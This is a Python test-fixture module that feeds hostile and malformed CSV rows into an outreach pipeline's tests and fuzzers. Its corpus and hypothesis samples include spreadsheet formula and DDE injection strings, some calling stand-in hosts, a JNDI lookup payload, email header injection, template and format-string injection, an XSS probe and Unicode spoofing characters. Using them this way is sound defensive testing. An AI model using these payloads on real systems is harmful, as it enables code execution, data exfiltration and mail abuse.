"""Rows as people type them: a corpus of hostile and clumsy cells, and hypothesis strategies
that generate more. ``tests/hostile_run.py`` runs them through every stage and checks what
must hold. Shared by ``tests/test_hostile_rows.py``, ``tests/test_fuzz_stages.py``,
``tests/test_cells.py`` and ``bench/fuzz.py``.
"""

from __future__ import annotations

from hypothesis import provisional
from hypothesis import strategies as st

# --- the corpus -----------------------------------------------------------------------------
# Domains the issue found stored as hosts, and more of the same kind: refused at import.
BAD_DOMAINS = [
    "[::1]",
    "[64:ff9b::7f00:1]",
    "ex ample.com",
    "..",
    "http://",
    "127.0.0.1",
    "http://[::1",
    "https://127.0.0.1/contact",
    "gallery.test:8080",
    "javascript:alert(1)",
    "mailto:editor@gallery.test",
    "under_score.test",
    "-dash.test",
    "localhost",
    "\u202egallery.test",
    "gal\u200blery.test",
    "ftp://files.gallery.test",
    "x" * 300 + ".test",
]
# Hand-typed contact_email cells that are not one mailbox: held, never sent to.
BAD_EMAILS = [
    "foo@",
    "a@b",
    "x@y.example, z@w.example",
    "<x@y.example>",
    "mailto:me@y.example",
    "\u202ex@y.example",
    "Bob <bob@y.test>",
    "x@y.test\r\nBcc: victim@else.test",
    "x@[127.0.0.1]",
    "x@127.0.0.1",
    "two words@y.test",
    "x\x0b@y.test",
    "@y.test",
    "x@@y.test",
    '"quoted"@y.test',
    "x@localhost",
]
# Cells a person may type into hub columns of an otherwise good row: never stop a stage.
CLUMSY_CELLS: list[dict[str, str]] = [
    {"followups_sent": "two"},
    {"next_followup_at": "tomorrow"},
    {"da_est": "1e400"},
    {"da_est": "NaN", "serp_rank": "-3"},
    {"email_confidence": "ninety"},
    {"page_title": '=IMPORTXML("http://evil.test", "//a")'},
    {"contact_name": "{{ 7*7 }}"},
    {"contact_name": "{contact_name} {0} %s"},
    {"snippet": "nul\x00byte and \x1b[31mansi"},
    {"snippet": "é" * 50_000, "notes": "\x00" * 3},
    {"keyword": "art\u2028blog"},
    {"contact_name": "\u202eevil"},
    {"contact_name": "é" * 50_000},
    {"notes": '=HYPERLINK("http://x.test")'},
]


def corpus_lines(good: int = 6) -> tuple[list[dict[str, str]], dict[str, str]]:
    """CSV lines (dicts) and, by domain, what each line is: good / bad_domain / bad_email /
    clumsy. Good and clumsy lines must reach the outbox; the others must say why."""
    lines: list[dict[str, str]] = []
    kind: dict[str, str] = {}
    for i in range(good):
        lines.append(
            {"domain": f"good{i}.test", "page_title": f"Gallery {i}", "notes": f"kept {i}"}
        )
        kind[f"good{i}.test"] = "good"
    lines.append(
        {"domain": "typed.test", "page_title": "Typed", "contact_email": "Editor@Typed.TEST"}
    )
    kind["typed.test"] = "good"
    for i, cells in enumerate(CLUMSY_CELLS):
        lines.append({"domain": f"clumsy{i}.test", "page_title": f"Clumsy {i}", **cells})
        kind[f"clumsy{i}.test"] = "clumsy"
    for value in BAD_DOMAINS:
        lines.append({"domain": value, "notes": "bad domain"})
    for i, value in enumerate(BAD_EMAILS):
        lines.append({"domain": f"badmail{i}.test", "page_title": "Bad", "contact_email": value})
        kind[f"badmail{i}.test"] = "bad_email"
    return lines, kind


# --- generated rows -------------------------------------------------------------------------
_SAMPLES = [
    "",
    " ",
    "\x00",
    "\r\n",
    "a\r\nBcc: victim@else.test",
    "\u202e",
    "\u200f\u200e",
    "\ufeff",
    "=1+2",
    '=IMPORTXML("http://x.test","//a")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "{{ 7*7 }}",
    "{contact_name}",
    "{0.__class__}",
    "%(x)s",
    "${jndi:ldap://x.test/a}",
    "<script>alert(1)</script>",
    "two",
    "-1",
    "1e400",
    "NaN",
    "tomorrow",
    "2026-13-45",
    "9" * 30,
]
hostile_text = st.one_of(
    st.sampled_from(_SAMPLES),
    st.text(max_size=30),
    st.text(st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Zs"]), max_size=6),
    st.builds(lambda ch, n: ch * n, st.sampled_from("xé\u202e\x00\n"), st.integers(1000, 50_000)),
)
good_domains = st.builds(lambda i: f"site{i}.test", st.integers(0, 30))
# Good values are drawn more often (one_of picks branches evenly): rows must also get through
# to drafting and the outbox, where header injection and bad recipients would show.
domains = st.one_of(
    good_domains, good_domains, st.sampled_from(BAD_DOMAINS), provisional.domains(), hostile_text
)
addresses = st.one_of(
    st.just(""),
    st.just(""),
    st.sampled_from(BAD_EMAILS),
    st.emails(),
    hostile_text,
)
HUB_CELLS = (
    "contact_name",
    "snippet",
    "keyword",
    "followups_sent",
    "next_followup_at",
    "last_sent",
    "da_est",
    "serp_rank",
    "email_confidence",
    "draft_subject",
    "draft_body",
)
rows = st.fixed_dictionaries(
    {
        "domain": domains,
        "contact_email": addresses,
        "page_title": st.one_of(st.sampled_from(["Painted Words", "Gallery Notes"]), hostile_text),
        # A person may only type these; anything else has no stage to answer it.
        "outreach_status": st.sampled_from(["", "pending", "Pending ", "skip", "do_not_contact"]),
        "notes": hostile_text,
    },
    optional={name: hostile_text for name in HUB_CELLS},
)
batches = st.lists(rows, min_size=1, max_size=5)
